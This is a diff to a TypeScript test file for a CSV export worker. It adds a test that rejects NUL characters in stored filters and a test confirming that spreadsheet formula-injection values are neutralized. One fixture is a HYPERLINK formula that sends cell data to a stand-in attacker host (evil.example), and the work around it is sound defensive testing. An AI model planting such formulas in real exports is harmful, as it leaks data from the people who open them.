@@ -11,6 +11,7 @@ import { martTablesFromDatasets } from '../../../lambda/shared/api-marts';
 import type { UpdateInput } from '../../../lambda/shared/aws/dynamodb';
 import { S3Client } from '../../../lambda/shared/aws/s3';
 import { TransientError } from '../../../lambda/shared/errors';
+import { logger } from '../../../lambda/shared/logger';
 import type { SqlExecutor } from '../../../lambda/shared/sql';
 import { exampleConfig } from '../../helpers/app';
 import { FAKE_CREDENTIALS, FAKE_REGION, type FakeAws, type FakeAwsAnswer, startFakeAws } from '../../helpers/fake-aws';
@@ -261,6 +262,76 @@ describe('export worker on PostgreSQL and a local S3', () => {
         error: expect.stringMatching(/^Gave up after 3 attempts/),
       }),
     );
+  });
+
+  test('fails a job whose stored filter breaks its column rule at once, with the rule, before any SQL or write', async () => {
+    // A job item written by an older request handler: the worker checks the values again rather than trusting it.
+    const id = '0b6c1d53-6f3e-4a64-9d3c-8a3c1f0e0009';
+    const store = jobStore(exportJob(id, { filters: [{ column: 'click_id', operator: 'eq', value: 'clk-\u0000' }] }));
+    const neverCalled: SqlExecutor = {
+      query: async () => {
+        throw new Error('no SQL may run');
+      },
+      transaction: async () => {
+        throw new Error('no SQL may run');
+      },
+    };
+    const errorLog = jest.spyOn(logger, 'error');
+    local.requests.length = 0;
+    try {
+      await expect(workerFor(neverCalled)(sqsEvent(JSON.stringify({ id })))).resolves.toEqual({
+        batchItemFailures: [],
+      });
+      expect(store.current()).toEqual(
+        expect.objectContaining({
+          status: 'FAILED',
+          error:
+            'Value "clk-\\u0000" for click_id is not a valid string: it contains a NUL character (U+0000), which PostgreSQL text cannot hold. Fix: remove the NUL character',
+        }),
+      );
+      expect(store.statuses).toEqual(['RUNNING', 'FAILED']);
+      expect(local.requests).toEqual([]);
+      expect(errorLog).not.toHaveBeenCalled();
+    } finally {
+      errorLog.mockRestore();
+    }
+  });
+
+  test('survives formula injection: string cells starting with = + - @ tab or CR are neutralized, numbers stay data', async () => {
+    const hostile = ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '=HYPERLINK("http://evil.example/?"&A1,"x")'];
+    const ids = hostile.map((_, index) => `inj-${index}`);
+    for (const [index, landing] of hostile.entries()) {
+      await db.executor.query(
+        `INSERT INTO mart.clicks (click_id, impression_id, click_time, campaign_id, landing_url, cost_usd, is_fraud_suspected)
+         VALUES (:click_id, :impression_id, '2026-11-01T00:00:00Z', -5, :landing_url, -1.5, false)`,
+        { click_id: ids[index], impression_id: index === 0 ? '-imp' : 'imp', landing_url: landing },
+      );
+    }
+    try {
+      const id = '0b6c1d53-6f3e-4a64-9d3c-8a3c1f0e000a';
+      jobStore(
+        exportJob(id, {
+          filters: [
+            { column: 'click_id', operator: 'gte', value: 'inj-' },
+            { column: 'click_id', operator: 'lt', value: 'inj.' },
+          ],
+        }),
+      );
+      await workerFor()(sqsEvent(JSON.stringify({ id })));
+      const lines = (await readExport(id)).text.split('\r\n');
+      expect(lines.slice(1, -1)).toEqual([
+        `inj-0,"'-imp",2026-11-01T00:00:00.000Z,-5,"'=1+1",-1.5000,false`,
+        `inj-1,imp,2026-11-01T00:00:00.000Z,-5,"'+1",-1.5000,false`,
+        `inj-2,imp,2026-11-01T00:00:00.000Z,-5,"'-1",-1.5000,false`,
+        `inj-3,imp,2026-11-01T00:00:00.000Z,-5,"'@SUM(A1)",-1.5000,false`,
+        `inj-4,imp,2026-11-01T00:00:00.000Z,-5,"'\tx",-1.5000,false`,
+        // A lone CR stays inside its quoted field (RFC 4180); lines end in CRLF only.
+        `inj-5,imp,2026-11-01T00:00:00.000Z,-5,"'\rx",-1.5000,false`,
+        `inj-6,imp,2026-11-01T00:00:00.000Z,-5,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",-1.5000,false`,
+      ]);
+    } finally {
+      await db.executor.query(`DELETE FROM mart.clicks WHERE click_id LIKE 'inj-%'`);
+    }
   });
 
   test('fails a malformed message back to SQS (it ends in the DLQ, never silently dropped)', async () => {
